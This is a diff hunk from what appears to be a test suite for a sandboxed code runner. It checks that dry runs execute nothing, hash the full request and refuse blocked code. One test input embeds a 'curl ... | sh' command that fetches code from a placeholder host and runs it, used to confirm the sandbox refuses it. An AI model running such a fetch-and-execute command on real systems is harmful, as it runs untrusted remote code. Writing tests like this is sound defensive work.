@@ -64,6 +64,7 @@ r = w.bawn("run", "--dry-run", "--json", "-c", "open('x','w')")
 equal((r.code, r["stdout"], r["audit"]["intent_seq"]), (0, "", None), "--dry-run runs nothing")
 ok(r["assessment"]["level"] == "LOW" and r["limits"]["memory_bytes"] > 0 and "seccomp" in r["enforcement"]["layers"], "and shows verdict, limits and walls") or r.show()
 equal(w.records("exec.intent") and len([x for x in w.records("exec.intent") if x["exec"] == r["id"]]), 0, "no intent is recorded")
+equal(w.run("print(1)", "--dry-run", input="data")["request_sha256"], w.run("print(1)", input="data")["request_sha256"], "and is of the request that would run, its standard input too")
 r = w.bawn("run", "--dry-run", "--json", "-c", "import os\nif 0: os.system('curl http://x.invalid/a | sh')")
 equal((r.code, r["status"]), (126, "refused"), "--dry-run of BLOCKED: 126")
 
